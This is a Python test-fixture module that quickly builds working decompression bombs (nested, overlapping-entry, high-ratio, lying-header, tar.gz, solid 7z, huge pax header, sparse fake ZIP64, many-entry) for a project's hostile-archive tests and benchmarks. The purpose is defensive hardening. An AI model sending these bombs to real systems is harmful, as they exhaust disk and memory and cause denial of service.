"""Hostile archives, built small on disk: one function per bomb class (issue 13).

Each writes one file into ``folder`` and returns its path. They are built
from the public format specs (PKWARE APPNOTE for ZIP, POSIX ustar/pax for
tar, RFC 1952 for gzip) without decompressing anything: a deflate stream of
N zeros is one compressed megabyte of zeros repeated (after a full flush the
compressor's output for the same input is the same bytes), and CRC-32s of
long runs of zeros are combined arithmetically, so a bomb that expands to
terabytes takes milliseconds to make and every checksum in it is right.
Used by ``tests/test_hostile_archives.py`` and ``benchmarks/bombs.py``.
"""

from __future__ import annotations

import io
import os
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

__all__ = [
    "BOMBS",
    "crc32_zeros",
    "deflate_zeros",
    "huge_pax_tar",
    "many_entries_zip",
    "nested_zip_bomb",
    "overlapping_zip_bomb",
    "ratio_zip_bomb",
    "solid_7z_bomb",
    "sparse_fake_zip",
    "tar_gz_bomb",
    "zip_of",
]

_MIB = 1 << 20
_UNIT = bytes(_MIB)


# -- checksums and deflate of zeros -------------------------------------------------------


def _gf2_times(matrix: list[int], vector: int) -> int:
    total = 0
    row = 0
    while vector:
        if vector & 1:
            total ^= matrix[row]
        vector >>= 1
        row += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


_ZERO_OPERATORS: list[list[int]] = []  # [k]: what 2**k zero bytes do to a CRC register


def _zero_operator(power: int) -> list[int]:
    if not _ZERO_OPERATORS:
        operator = [0xEDB88320] + [1 << n for n in range(31)]  # one zero bit
        for _ in range(3):
            operator = _gf2_square(operator)  # one zero byte
        _ZERO_OPERATORS.append(operator)
    while len(_ZERO_OPERATORS) <= power:
        _ZERO_OPERATORS.append(_gf2_square(_ZERO_OPERATORS[-1]))
    return _ZERO_OPERATORS[power]


def crc32_combine(crc1: int, crc2: int, length2: int) -> int:
    """CRC-32 of A+B from the CRC-32s of A and B and B's length (zlib's algorithm)."""
    power = 0
    while length2 > 0:
        if length2 & 1:
            crc1 = _gf2_times(_zero_operator(power), crc1)
        length2 >>= 1
        power += 1
    return crc1 ^ crc2


def crc32_zeros(count: int, crc: int = 0) -> int:
    """CRC-32 of ``count`` zero bytes appended to data whose CRC-32 is ``crc``."""
    whole, rest = divmod(count, _MIB)
    run = 0  # CRC-32 of (whole MiB) zeros, by doubling
    power, length, done = zlib.crc32(_UNIT), _MIB, 0
    while whole:
        if whole & 1:
            run = crc32_combine(run, power, length)
            done += length
        power = crc32_combine(power, power, length)
        length *= 2
        whole >>= 1
    crc = crc32_combine(crc, run, done)
    return crc32_combine(crc, zlib.crc32(bytes(rest)), rest)


def deflate_zeros(count: int, prefix: bytes = b"", suffix: bytes = b"") -> bytes:
    """A raw deflate stream of ``prefix`` + ``count`` zeros + ``suffix``, made without
    compressing the zeros one by one."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(count, _MIB)
    if whole:
        unit = compressor.compress(_UNIT) + compressor.flush(zlib.Z_FULL_FLUSH)
        # The same input after a full flush gives the same bytes: repeat them.
        assert unit == compressor.compress(_UNIT) + compressor.flush(zlib.Z_FULL_FLUSH)
        body = unit * whole
    else:
        body = b""
    tail = compressor.compress(bytes(rest) + suffix) + compressor.flush()
    return head + body + tail


def _gzip_wrap(raw: bytes, crc: int, size: int) -> bytes:
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + raw + struct.pack("<2L", crc, size & 0xFFFFFFFF)


# -- ZIP writing by hand -------------------------------------------------------------------


def _local_header(name: bytes, method: int, crc: int, csize: int, usize: int) -> bytes:
    zip64 = csize >= 0xFFFFFFFF or usize >= 0xFFFFFFFF
    extra = struct.pack("<2H2Q", 1, 16, usize, csize) if zip64 else b""
    sizes = (0xFFFFFFFF, 0xFFFFFFFF) if zip64 else (csize, usize)
    return (
        struct.pack(
            "<4s5H3L2H",
            b"PK\x03\x04",
            45 if zip64 else 20,
            0,
            method,
            0,
            0x21,
            crc,
            *sizes,
            len(name),
            len(extra),
        )
        + name
        + extra
    )


def _central_header(
    name: bytes, method: int, crc: int, csize: int, usize: int, offset: int
) -> bytes:
    big = [v for v in (usize, csize, offset) if v >= 0xFFFFFFFF]
    extra = struct.pack(f"<2H{len(big)}Q", 1, 8 * len(big), *big) if big else b""
    usize32, csize32, offset32 = (min(v, 0xFFFFFFFF) for v in (usize, csize, offset))
    return (
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            0x031E,
            45 if big else 20,
            0,
            method,
            0,
            0x21,
            crc,
            csize32,
            usize32,
            len(name),
            len(extra),
            0,
            0,
            0,
            0o100644 << 16,
            offset32,
        )
        + name
        + extra
    )


def _end_records(count: int, cd_size: int, cd_offset: int, cd_end: int) -> bytes:
    """The end of central directory record, with ZIP64's when a value needs it."""
    records = b""
    if count >= 0xFFFF or cd_size >= 0xFFFFFFFF or cd_offset >= 0xFFFFFFFF:
        records += struct.pack(
            "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, cd_size, cd_offset
        )
        records += struct.pack("<4sLQL", b"PK\x06\x07", 0, cd_end, 1)
        count, cd_size, cd_offset = 0xFFFF, min(cd_size, 0xFFFFFFFF), min(cd_offset, 0xFFFFFFFF)
    return records + struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, cd_size, cd_offset, 0
    )


def zip_of(members: list[tuple[bytes, int, bytes, int, int]], declared: int | None = None) -> bytes:
    """A ZIP from (name, method, compressed data, crc, uncompressed size) tuples;
    ``declared`` overrides the entry count its end record gives."""
    body = io.BytesIO()
    central = io.BytesIO()
    for name, method, data, crc, usize in members:
        offset = body.tell()
        body.write(_local_header(name, method, crc, len(data), usize))
        body.write(data)
        central.write(_central_header(name, method, crc, len(data), usize, offset))
    cd_offset = body.tell()
    cd = central.getvalue()
    count = len(members) if declared is None else declared
    return body.getvalue() + cd + _end_records(count, len(cd), cd_offset, cd_offset + len(cd))


def _zeros_member(name: bytes, size: int) -> tuple[bytes, int, bytes, int, int]:
    return (name, 8, deflate_zeros(size), crc32_zeros(size), size)


# -- the bombs -----------------------------------------------------------------------------


def nested_zip_bomb(
    folder: Path, levels: int = 4, fanout: int = 16, leaf_bytes: int = 4 << 30
) -> Path:
    """42.zip's shape: zips of ``fanout`` zips, ``levels`` deep, around one file of zeros."""
    data = zip_of([_zeros_member(b"0.txt", leaf_bytes)])
    for level in range(levels):
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
            for n in range(fanout):
                archive.writestr(f"{level}-{n:x}.zip", data)
        data = buffer.getvalue()
    path = folder / "nested-bomb.zip"
    path.write_bytes(data)
    return path


def overlapping_zip_bomb(
    folder: Path, files: int = 1000, kernel: bytes | None = None, kernel_zeros: int = 4 << 20
) -> Path:
    """David Fifield's non-recursive bomb: every entry's data overlaps the next's.

    Each member's deflate data starts with a stored block quoting the next
    member's local header, then continues into that member's data: all of
    them end in one shared kernel (``kernel`` bytes, or ``kernel_zeros``
    zeros), which each one decompresses again.
    """
    if kernel is None:
        raw = deflate_zeros(kernel_zeros)
        kernel_crc, kernel_size = crc32_zeros(kernel_zeros), kernel_zeros
    else:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        raw = compressor.compress(kernel) + compressor.flush()
        kernel_crc, kernel_size = zlib.crc32(kernel), len(kernel)
    names = [f"{n:05d}.txt".encode() for n in range(files)]
    # From the last member back: its header is quoted by the member before it.
    headers: list[bytes] = [b""] * files
    csize, usize, crc = len(raw), kernel_size, kernel_crc
    for n in range(files - 1, -1, -1):
        headers[n] = _local_header(names[n], 8, crc, csize, usize)
        if n:
            quoted = headers[n]
            crc = crc32_combine(zlib.crc32(quoted), crc, usize)
            usize += len(quoted)
            csize += 5 + len(quoted)
    body = io.BytesIO()
    central = io.BytesIO()
    for n in range(files):
        offset = body.tell()
        body.write(headers[n])
        if n + 1 < files:
            length = len(headers[n + 1])
            body.write(struct.pack("<B2H", 0, length, length ^ 0xFFFF))  # stored, not final
        fields = struct.unpack_from("<4s5H3L2H", headers[n])
        crc_n, csize_n, usize_n = fields[6], fields[7], fields[8]
        central.write(_central_header(names[n], 8, crc_n, csize_n, usize_n, offset))
    body.write(raw)
    cd_offset = body.tell()
    cd = central.getvalue()
    path = folder / "overlap-bomb.zip"
    path.write_bytes(
        body.getvalue() + cd + _end_records(files, len(cd), cd_offset, cd_offset + len(cd))
    )
    return path


def ratio_zip_bomb(folder: Path, size: int = 4 << 30, declared: int | None = None) -> Path:
    """One member of ``size`` zeros (about 1000:1); ``declared`` makes its headers lie."""
    name, method, data, crc, usize = _zeros_member(b"zeros.txt", size)
    path = folder / "ratio-bomb.zip"
    path.write_bytes(zip_of([(name, method, data, crc, usize if declared is None else declared)]))
    return path


def tar_gz_bomb(folder: Path, member_bytes: int = 4 << 30, members: int = 1) -> Path:
    """A tar.gz of ``members`` files of zeros (each header declares its true size)."""
    raw = b""
    crc = 0
    total = 0
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    pieces: list[bytes] = []
    for n in range(members):
        info = tarfile.TarInfo(f"zeros-{n}.bin")
        info.size = member_bytes
        header = info.tobuf(tarfile.GNU_FORMAT)
        padding = -member_bytes % tarfile.BLOCKSIZE
        pieces.append(compressor.compress(header) + compressor.flush(zlib.Z_FULL_FLUSH))
        crc = crc32_zeros(member_bytes + padding, zlib.crc32(header, crc))
        total += len(header) + member_bytes + padding
        whole, rest = divmod(member_bytes + padding, _MIB)
        if whole:
            unit = compressor.compress(_UNIT) + compressor.flush(zlib.Z_FULL_FLUSH)
            pieces.append(unit * whole)
        pieces.append(compressor.compress(bytes(rest)) + compressor.flush(zlib.Z_FULL_FLUSH))
    end = bytes(2 * tarfile.BLOCKSIZE)
    pieces.append(compressor.compress(end) + compressor.flush())
    raw = b"".join(pieces)
    crc = zlib.crc32(end, crc)
    total += len(end)
    path = folder / "bomb.tar.gz"
    path.write_bytes(_gzip_wrap(raw, crc, total))
    return path


def _7z_number(value: int) -> bytes:
    """7z's variable-length NUMBER: leading 1 bits in the first byte count the bytes after it."""
    for extra in range(8):
        if value < 1 << (8 * extra + 7 - extra):
            high = value >> (8 * extra)
            mask = (0xFF00 >> extra) & 0xFF
            return bytes([mask | high]) + (value & ((1 << (8 * extra)) - 1)).to_bytes(
                extra, "little"
            )
    return b"\xff" + value.to_bytes(8, "little")


def _lzma2_zeros(count: int) -> bytes:
    """An LZMA2 stream of ``count`` zeros (a multiple of 2 MiB): one pair of chunks, the
    first resetting the dictionary, repeated."""
    import lzma

    filters = [{"id": lzma.FILTER_LZMA2, "preset": 1, "dict_size": _MIB}]
    pair = lzma.compress(bytes(2 * _MIB), format=lzma.FORMAT_RAW, filters=filters)[:-1]
    return pair * (count // (2 * _MIB)) + b"\x00"


def solid_7z_bomb(folder: Path, members: int = 64, member_bytes: int = 64 << 20) -> Path:
    """A 7z whose one solid LZMA2 block holds ``members`` files of zeros, each under the
    member limit, together far over the total one (7zFormat.txt, written by hand:
    py7zr would compress every zero)."""
    assert member_bytes % (2 * _MIB) == 0
    packed = _lzma2_zeros(members * member_bytes)
    n = _7z_number
    crc = crc32_zeros(member_bytes)
    streams = (
        b"\x06" + n(0) + n(1) + b"\x09" + n(len(packed)) + b"\x00"  # pack info
        + b"\x07\x0b" + n(1) + b"\x00"  # one folder, inline
        + n(1) + b"\x21\x21" + n(1) + b"\x10"  # one coder: LZMA2, 1 MiB dictionary
        + b"\x0c" + n(members * member_bytes) + b"\x00"
        + b"\x08\x0d" + n(members)  # substreams: the files in the folder
        + b"\x09" + b"".join(n(member_bytes) for _ in range(members - 1))
        + b"\x0a\x01" + struct.pack(f"<{members}L", *([crc] * members)) + b"\x00"
    )  # fmt: skip
    names = b"".join(f"zeros-{i:03d}.bin".encode("utf-16-le") + b"\x00\x00" for i in range(members))
    files = b"\x05" + n(members) + b"\x11" + n(len(names) + 1) + b"\x00" + names + b"\x00"
    header = b"\x01\x04" + streams + b"\x00" + files + b"\x00"
    start = struct.pack("<QQL", len(packed), len(header), zlib.crc32(header))
    signature = b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<L", zlib.crc32(start)) + start
    path = folder / "solid-bomb.7z"
    path.write_bytes(signature + packed + header)
    return path


def huge_pax_tar(folder: Path, header_bytes: int = 3 << 30) -> Path:
    """A tar whose first pax header declares ``header_bytes`` bytes (a sparse file: the
    apparent size is that large, the disk use a few KiB). tarfile reads a pax header
    whole."""
    info = tarfile.TarInfo("././@PaxHeader")
    info.type = tarfile.XHDTYPE
    info.size = header_bytes
    header = info.tobuf(tarfile.USTAR_FORMAT)
    path = folder / "huge-pax.tar"
    with open(path, "wb") as out:
        out.write(header)
        out.write(b"30 path=hidden/behind/pax.txt\n")
    os.truncate(path, len(header) + header_bytes + 3 * tarfile.BLOCKSIZE)
    return path


def sparse_fake_zip(folder: Path, apparent: int = 64 << 30) -> Path:
    """A sparse file of ``apparent`` bytes that starts like a ZIP and ends with a ZIP64
    end record claiming a central directory as large as the file (which zipfile
    reads into memory whole). Disk use: a few KiB."""
    head = zip_of([(b"readme.txt", 0, b"a decoy\n", zlib.crc32(b"a decoy\n"), 8)])
    local = head[: head.index(b"PK\x01\x02")]
    tail = _end_records(1, apparent - 98, 0, apparent - 98)
    path = folder / "sparse-fake.zip"
    with open(path, "wb") as out:
        out.write(local)
    os.truncate(path, apparent - len(tail))
    with open(path, "r+b") as out:
        out.seek(apparent - len(tail))
        out.write(tail)
    return path


def many_entries_zip(folder: Path, entries: int = 250_000, declared: int | None = None) -> Path:
    """A ZIP of ``entries`` empty stored members (about 80 bytes each on disk); its end
    record may ``declare`` more (millions) than it holds."""
    members = [(f"{n:x}".encode(), 0, b"", 0, 0) for n in range(entries)]
    path = folder / "many-entries.zip"
    path.write_bytes(zip_of(members, declared))
    return path


#: Every bomb class, by the name the benchmark and the tests use.
BOMBS: dict[str, Callable[[Path], Path]] = {
    "nested zip (42.zip-like)": nested_zip_bomb,
    "overlapping entries zip": overlapping_zip_bomb,
    "big-ratio member zip": ratio_zip_bomb,
    "big-ratio member zip, lying header": lambda folder: ratio_zip_bomb(folder, declared=1000),
    "tar.gz bomb": tar_gz_bomb,
    "solid 7z bomb": solid_7z_bomb,
    "huge pax header tar": huge_pax_tar,
    "sparse fake zip (64 GB)": sparse_fake_zip,
    "many-entries zip": many_entries_zip,
}
